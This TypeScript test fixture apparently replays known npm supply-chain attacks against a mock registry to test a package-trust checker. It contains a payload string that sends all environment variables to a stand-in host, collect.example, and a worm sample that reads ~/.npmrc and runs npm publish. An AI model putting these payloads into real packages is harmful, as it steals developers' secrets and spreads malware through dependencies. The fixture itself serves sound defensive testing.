import { serveAttested } from '../helpers/serve-attested.ts';
import { slsaV1 } from '../engine/trust/attested-package.ts';
import { type Attack, VICTIM } from './replay.ts';

const NEXT = '1.2.4';
const REPOSITORY = { repository: { type: 'git', url: 'git+https://github.com/acme/plug.git' } };
const DEPENDENCIES = { dependencies: { helper: '^1.0.0' } };
const STRUCK = { name: VICTIM, version: NEXT };
const THIEF = "exports.shout = (t) => { fetch('https://collect.example/' + JSON.stringify(process.env)); return t; };\n";

/** Shapes of known attacks, rebuilt small. What they carry is inert. */
export const ATTACKS: readonly Attack[] = [
	{
		name: 'Stolen publish token',
		strike: async ({ registry }) => {
			registry.serve(VICTIM, NEXT, { ...REPOSITORY, ...DEPENDENCIES }, { 'index.js': THIEF });
			return STRUCK;
		},
	},
	{
		name: 'Stripped evidence',
		strike: async (scene) => {
			await serveAttested(scene, { ...STRUCK, manifest: DEPENDENCIES });
			scene.registry.serveRaw(`/-/npm/v1/attestations/${VICTIM}@${NEXT}`, { status: 404, body: '{}' });
			return STRUCK;
		},
	},
	{
		name: 'Package handed to another repository',
		strike: async (scene) => {
			await serveAttested(scene, { ...STRUCK, repository: 'evil/plug', manifest: DEPENDENCIES, files: { 'index.js': THIEF } });
			return STRUCK;
		},
	},
	{
		name: 'Repository name registered again',
		strike: async (scene) => {
			const ids = { repository_id: '999', repository_owner_id: '998' };
			const predicate = slsaV1();
			predicate.buildDefinition.internalParameters.github = { event_name: 'push', repository_id: '999', repository_owner_id: '998' };
			await serveAttested(scene, { ...STRUCK, manifest: DEPENDENCIES, claims: ids, predicate });
			return STRUCK;
		},
	},
	{
		name: 'Provenance of a foreign repository',
		strike: async (scene) => {
			const manifest = { ...REPOSITORY, ...DEPENDENCIES };
			await serveAttested(scene, { ...STRUCK, repository: 'evil/plug', manifest, files: { 'index.js': THIEF } });
			return STRUCK;
		},
	},
	{
		name: 'Other workflow of the same repository',
		strike: async (scene) => {
			const workflow = 'acme/plug/.github/workflows/test.yml@refs/tags/v1.2.3';
			await serveAttested(scene, {
				...STRUCK,
				manifest: DEPENDENCIES,
				files: { 'index.js': THIEF },
				claims: { sub: `https://github.com/${workflow}`, job_workflow_ref: workflow, workflow_ref: workflow },
				predicate: slsaV1('acme/plug', { workflowPath: '.github/workflows/test.yml' }),
			});
			return STRUCK;
		},
	},
	{
		name: 'Poisoned build in the usual workflow',
		strike: async (scene) => {
			await serveAttested(scene, { ...STRUCK, manifest: DEPENDENCIES, files: { 'index.js': THIEF } });
			return STRUCK;
		},
	},
	branchBuild('Usual workflow, run from a branch'),
	{
		...branchBuild('The same, with pinned refs'),
		policy: { pins: { [VICTIM]: { repository: 'https://github.com/acme/plug', refs: ['refs/tags/*'] } } },
	},
	{
		name: 'Manifest confusion',
		strike: async (scene) => {
			await serveAttested(scene, { ...STRUCK, manifest: DEPENDENCIES });
			const { registry } = scene;
			const document = JSON.parse(await (await fetch(`${registry.url}${VICTIM}`)).text()) as {
				readonly versions: Record<string, { dependencies?: object }>;
			};
			const told = document.versions[NEXT];
			if (told !== undefined) {
				told.dependencies = { helper: '^1.0.0', collector: '1.0.0' };
			}

			registry.serve('collector', '1.0.0');
			const hour = new Date(Date.now() - 3_600_000).toISOString();
			registry.serveRaw(`/${VICTIM}`, {
				body: JSON.stringify({ ...document, time: { '1.2.3': '2020-01-01T00:00:00.000Z', [NEXT]: hour } }),
			});
			return STRUCK;
		},
		// The packument is fixed by then, so its age stays young: it is named and accepted to get to the gate behind.
		install: [`${VICTIM}@${NEXT}`],
	},
	{
		name: 'New dependency with an install script',
		strike: async (scene) => {
			scene.registry.serve(
				'easy-steps',
				'1.0.0',
				{ scripts: { postinstall: 'node setup.js' } },
				{ 'setup.js': "require('child_process').exec('true');\n" },
			);
			await serveAttested(scene, { ...STRUCK, manifest: { dependencies: { helper: '^1.0.0', 'easy-steps': '1.0.0' } } });
			return STRUCK;
		},
	},
	{
		name: 'Hijacked dependency',
		strike: async ({ registry }) => {
			registry.serve('helper', '1.0.1', { _npmUser: { name: 'eve', email: 'eve@example.com' } }, { 'index.js': THIEF });
			return { name: 'helper', version: '1.0.1' };
		},
	},
	{
		name: 'Implicit native build',
		strike: async (scene) => {
			await serveAttested(scene, {
				...STRUCK,
				manifest: DEPENDENCIES,
				files: { 'binding.gyp': "{'targets':[{'target_name':'a','sources':['<!(true)']}]}\n" },
			});
			return STRUCK;
		},
	},
	{
		name: 'Worm that publishes itself',
		strike: async (scene) => {
			const worm =
				"const { execSync } = require('child_process');\nconst fs = require('fs');\n" +
				"fs.readFileSync(require('os').homedir() + '/.npmrc');\nexecSync('npm publish');\n";
			await serveAttested(scene, { ...STRUCK, manifest: DEPENDENCIES, files: { 'index.js': worm } });
			return STRUCK;
		},
	},
	typosquat('Typosquat, letters swapped', 'loadsh'),
	typosquat('Typosquat, one letter more', 'expresss'),
	{
		name: 'Swapped bytes',
		strike: async (scene) => {
			const served = await serveAttested(scene, { ...STRUCK, manifest: DEPENDENCIES });
			scene.registry.fault({ path: new URL(served.tarballUrl).pathname, kind: 'wrong-bytes' });
			return STRUCK;
		},
	},
	{
		name: 'Tag moved back to an old version',
		strike: async (scene) => {
			scene.registry.serve(VICTIM, '1.2.0', REPOSITORY);
			scene.registry.setTag(VICTIM, 'latest', '1.2.0');
			return { name: VICTIM, version: '1.2.0' };
		},
	},
	{
		name: 'The same, asked for by name',
		strike: async (scene) => {
			scene.registry.serve(VICTIM, '1.2.0', REPOSITORY);
			return { name: VICTIM, version: '1.2.0' };
		},
		install: [`${VICTIM}@1.2.0`],
	},
];

function branchBuild(name: string): Attack {
	return {
		name,
		strike: async (scene) => {
			const workflow = 'acme/plug/.github/workflows/publish.yml@refs/heads/patch-1';
			await serveAttested(scene, {
				...STRUCK,
				manifest: DEPENDENCIES,
				claims: { sub: `https://github.com/${workflow}`, job_workflow_ref: workflow, workflow_ref: workflow, ref: 'refs/heads/patch-1' },
				predicate: slsaV1('acme/plug', { ref: 'refs/heads/patch-1' }),
			});
			return STRUCK;
		},
	};
}

function typosquat(name: string, squatted: string): Attack {
	return {
		name,
		strike: ({ registry }) => {
			registry.serve(squatted, '4.0.0', {}, { 'index.js': THIEF });
			return Promise.resolve({ name: squatted, version: '4.0.0' });
		},
		install: [squatted],
	};
}
